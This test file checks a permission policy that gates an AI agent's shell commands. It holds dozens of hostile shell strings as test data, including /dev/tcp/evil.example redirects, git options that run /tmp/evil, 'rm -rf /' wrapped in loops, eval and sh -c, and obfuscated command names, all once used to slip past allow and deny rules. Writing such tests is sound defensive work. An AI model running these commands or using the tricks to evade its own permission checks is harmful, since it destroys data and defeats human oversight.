import { describe, expect, it } from 'vitest';
import { createPolicy } from './policy.js';
import { alwaysRuleFor } from './always.js';
import { bash } from './requests.test-helpers.js';
import { TOOLS } from './rule-tools.test-helpers.js';

/** The attack review's strings, each against the rule it used to slip past. */
const decide = (allow: string[], deny: string[], command: string) =>
  createPolicy({ tools: TOOLS, allow, deny }).decide(bash(command)).type;

describe('1. a prefix allow rule no longer runs arbitrary code', () => {
  it.each([
    'npm test ${x@P}',
    "npm test ${var:=$'\\x41'}",
    'npm test $((a[$(id)]))',
    'npm test $[1+2]',
    'npm test $x',
    "npm test $'\\x2f'",
    'npm test </dev/tcp/evil.example/80',
    'npm test < /dev/udp/evil.example/53',
    'npm test *',
    'npm test {a,b}',
    'npm test ~/x',
    'npm test <<< "$(id)"',
    'npm test <<EOF\n$(id)\nEOF',
    'X=1 npm test',
    'npm test --script-shell=/tmp/evil',
    'npm test --node-options=--require=/tmp/evil.js',
  ])('Bash(npm test:*) asks for %j', (command) => {
    expect(decide(['Bash(npm test:*)'], [], command)).toBe('ask');
  });

  it.each([
    '[[ -v a[$(id)] ]]',
    "test -v 'a[$(id)]'",
    "[ -v 'a[$(id)]' ]",
    "read 'a[$(id)]'",
    "printf -v 'a[$(id)]' x",
    'let "a[$(id)]"',
    'declare -a a=($(id))',
  ])('a subscript-evaluating builtin %j is never covered by a rule that does not name it', (command) => {
    expect(decide(['Bash(test:*)', 'Bash([:*)', 'Bash(echo:*)'], [], command)).toBe('ask');
  });

  it.each([
    'git -c alias.x=!sh x',
    'git -c core.fsmonitor=/tmp/evil status',
    'git -c core.pager=sh log',
    'git --config-env=core.pager=X log',
    'git fetch --upload-pack=/tmp/evil origin',
    'git fetch --upload-pa=/tmp/evil origin',
    'git clone -u /tmp/evil x',
    'git push --receive-pack=/tmp/evil',
    'git --exec-path=/tmp status',
    'git -C /etc status',
    'git --git-dir=/tmp/x status',
    'git --work-tree=/ status',
    'git lg',
    'git difftool',
    'git mergetool',
    'git filter-branch --tree-filter x',
    'git config core.hooksPath /tmp/h',
    'git rebase --exec "sh -c x" HEAD~1',
    'git bisect run ./evil',
    'git submodule foreach rm -rf .',
    'git diff --ext-diff',
    'git log --output=/etc/x',
    'git grep -O"sh -c x" foo',
    'git clone ext::sh x',
  ])('Bash(git:*) is not Bash: %j asks', (command) => {
    expect(decide(['Bash(git:*)'], [], command)).toBe('ask');
  });

  it('Bash(git:*) still allows ordinary git', () => {
    for (const command of [
      'git status',
      'git diff --stat',
      'git log --oneline -5',
      'git config --get user.name',
      'git --no-pager log',
    ]) {
      expect(decide(['Bash(git:*)'], [], command)).toBe('allow');
    }
  });

  it('a rule that names the dangerous word explicitly covers it', () => {
    expect(decide(['Bash(git -c:*)'], [], 'git -c color.ui=never status')).toBe('allow');
    expect(decide(['Bash(python -c:*)'], [], "python -c 'print(1)'")).toBe('allow');
    expect(decide(['Bash(python:*)'], [], "python -c 'print(1)'")).toBe('ask');
    expect(decide(['Bash(node:*)'], [], 'node -e 1')).toBe('ask');
    expect(decide(['Bash(node:*)'], [], 'node build.js')).toBe('allow');
  });
});

describe('2. deny rules see plain shell syntax', () => {
  it.each([
    'if true; then rm -rf /; fi',
    'for f in a; do rm -rf "$f"; done',
    'while true; do rm x; done',
    'until false; do rm x; done',
    'case a in a) rm x;; esac',
    '( rm x )',
    '{ rm x; }',
    'f() { rm x; }; f',
    'echo $(rm x)',
    'cat <(rm x)',
    'env rm x',
    'env -i FOO=1 rm x',
    'command rm x',
    'builtin command rm x',
    'sudo rm x',
    'sudo -u root -- rm x',
    'timeout 5 rm x',
    'timeout -k 1 5s rm x',
    'nice -n 10 rm x',
    'nohup rm x',
    'xargs rm',
    'xargs -I {} rm {}',
    'exec rm x',
    'time rm x',
    '/bin/rm x',
    './../../bin/rm x',
    "$'rm' x",
    "$'\\x72\\x6d' x",
    'r""m x',
    "r''m x",
    '\\rm x',
    'eval rm x',
    "eval 'rm x'",
    "bash -c 'rm x'",
    "sh -c 'rm x'",
    "zsh -c 'rm x'",
    "bash -lc 'rm x'",
    "sudo bash -c 'rm x'",
    'sh -c "sh -c \'rm x\'"',
    "env -S 'rm x'",
    "su -c 'rm x'",
    'find . -exec rm {} \\;',
    'find . -name x -execdir rm {} +',
    'watch rm x',
    'coproc rm x',
    '! rm x',
  ])('Bash(rm:*) denies %j', (command) => {
    expect(decide(['Bash'], ['Bash(rm:*)'], command)).toBe('deny');
  });

  it.each([
    '$x -rf /',
    '$(echo rm) x',
    'r? x',
    'eval "$cmd"',
    'bash -c "$cmd"',
    'echo rm x | sh',
    'bash ./script.sh',
    'source ./x.sh',
    'sh -c \'sh -c "sh -c \\\'sh -c \\\\"sh -c rm\\\\"\\\'"\'',
  ])('Bash(rm:*) makes %j ask (a command is hidden from view), even with Bash allowed', (command) => {
    expect(decide(['Bash'], ['Bash(rm:*)'], command)).toBe('ask');
  });

  it('a hidden command asks even in bypass mode, and plan mode still denies', () => {
    expect(
      createPolicy({ tools: TOOLS, mode: 'bypassPermissions', deny: ['Bash(rm:*)'] }).decide(bash('$x y')).type,
    ).toBe('ask');
    expect(createPolicy({ tools: TOOLS, mode: 'plan', deny: ['Bash(rm:*)'] }).decide(bash('$x y')).type).toBe('deny');
  });

  it('the ask says which deny rule might match and why', () => {
    const decision = createPolicy({ tools: TOOLS, deny: ['Bash(rm:*)'] }).decide(bash('$x y'));
    expect(decision).toMatchObject({ type: 'ask', reason: expect.stringContaining('bash(rm:*)') });
  });
});

describe('3. "always" says what it grants, before the answer, and grants no interpreter', () => {
  it.each([
    ['python3 -c "print(1)"', 'bash(python3 -c "print(1)")'],
    ['node build.js', 'bash(node build.js)'],
    ['bash -c "ls"', 'bash(bash -c "ls")'],
    ['sh x.sh', 'bash(sh x.sh)'],
    ['npx prettier --check .', 'bash(npx prettier --check .)'],
    ['env A=1 ls', 'bash(env A=1 ls)'],
    ['git status --short', 'bash(git status:*)'],
    ['npm run lint -- --fix', 'bash(npm run lint:*)'],
  ])('%j stores %j', (command, rule) => {
    expect(alwaysRuleFor(bash(command))).toBe(rule);
  });

  it('what alwaysRuleFor shows is exactly what the answer stores', async () => {
    const policy = createPolicy({ tools: TOOLS });
    const request = bash('python3 tools/gen.py --out x');
    const shown = alwaysRuleFor(request);
    await policy.authorize(request, async () => ({ type: 'session' }));
    expect(policy.list().map((g) => g.rule)).toEqual([shown]);
    expect(policy.decide(bash('python3 -c "import os"')).type).toBe('ask');
  });
});
